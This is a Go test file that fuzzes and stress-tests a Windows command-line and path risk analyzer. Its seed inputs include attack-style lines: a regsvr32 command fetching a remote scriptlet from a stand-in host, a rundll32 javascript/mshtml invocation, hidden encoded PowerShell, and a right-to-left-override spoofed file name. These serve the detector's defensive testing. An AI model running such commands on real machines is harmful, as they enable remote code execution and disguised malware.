package winpath

import (
	"strings"
	"testing"
	"unicode/utf8"
)

var fuzzSeeds = []string{
	`C:\Windows\System32\smss.exe`,
	`%SystemRoot%\system32\csrss.exe ObjectDirectory=\Windows SharedSection=1024,20480,768`,
	`"C:\Program Files\A B\c.exe" /x "y z" a\\\"b`,
	`C:\Program Files\My App\x.exe -a`,
	`rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";alert()`,
	`regsvr32 /s /i:http://x/a.sct scrobj.dll`,
	`cmd /c "start "" /b a.exe & b.exe | c.exe"`,
	`powershell -w hidden -enc SQBFAFgA`,
	`\\?\GLOBALROOT\Device\HarddiskVolume1\x.exe:ads`,
	"C:\\x\\\u202e\u0455mss.exe .scr",
	`%A%%B%%%%%%`,
	strings.Repeat(`"`, 1000),
	strings.Repeat(`%`, 1000),
	strings.Repeat(`\..`, 300),
}

// FuzzAssess checks that no input panics and that the results hold their
// invariants. Run with: go test -fuzz FuzzAssess ./analyzers/winpath/
func FuzzAssess(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add(s)
	}
	env := Env{UserName: "fuzz", System: map[string]string{"A": "%B%%B%", "B": "%A%x"}}
	f.Fuzz(func(t *testing.T, s string) {
		cl := ParseCommandLine(s)
		if cl.Raw != s {
			t.Fatalf("Raw changed")
		}
		if len(cl.Image) > len(s) || len(cl.ArgString) > len(s) {
			t.Fatalf("Image or ArgString longer than the input")
		}
		a := Assess(s, env)
		for _, r := range a.Reasons {
			if r.Rule == "" || r.Text == "" || r.Severity > a.Severity {
				t.Fatalf("bad reason %+v in %+v", r, a)
			}
		}
		if a.Risk < 0 || a.Risk > 1 {
			t.Fatalf("risk %v", a.Risk)
		}
		if utf8.ValidString(s) && strings.ContainsAny(a.Summary(), "\n\r\x1b") {
			t.Fatalf("summary not one safe line: %q", a.Summary())
		}
		_ = AssessPath(s, env)
		_ = ScanData([]byte(s))
	})
}

// TestPathological runs inputs that could make a careless parser quadratic
// or explode: each must finish and give bounded output.
func TestPathological(t *testing.T) {
	env := Env{System: map[string]string{"X": "%X%%X%", "Y": strings.Repeat("%Y%", 100)}}
	for _, s := range []string{
		strings.Repeat(`"`, 100<<10),
		strings.Repeat(`%`, 100<<10),
		strings.Repeat(`%X%`, 30<<10),
		strings.Repeat(`%Y%`, 30<<10),
		strings.Repeat(`\`, 100<<10) + `"`,
		strings.Repeat(`a `, 50<<10),
		`C:\` + strings.Repeat(`dir `, 25<<10) + `x.exe`,
		`cmd /c ` + strings.Repeat(`cmd /c a & `, 10<<10),
		`powershell -enc ` + strings.Repeat("QUFB", 100<<10),
		strings.Repeat("\u202e\u0455", 20<<10),
		strings.Repeat("http://", 20<<10),
	} {
		a := Assess(s, env)
		if n := len(a.Summary()); n > 8<<10 {
			t.Errorf("summary of %d bytes for input %.20q...", n, s)
		}
		for _, r := range a.Reasons {
			if len(r.Text) > 8<<10 {
				t.Errorf("reason %s of %d bytes for input %.20q...", r.Rule, len(r.Text), s)
			}
		}
	}
}
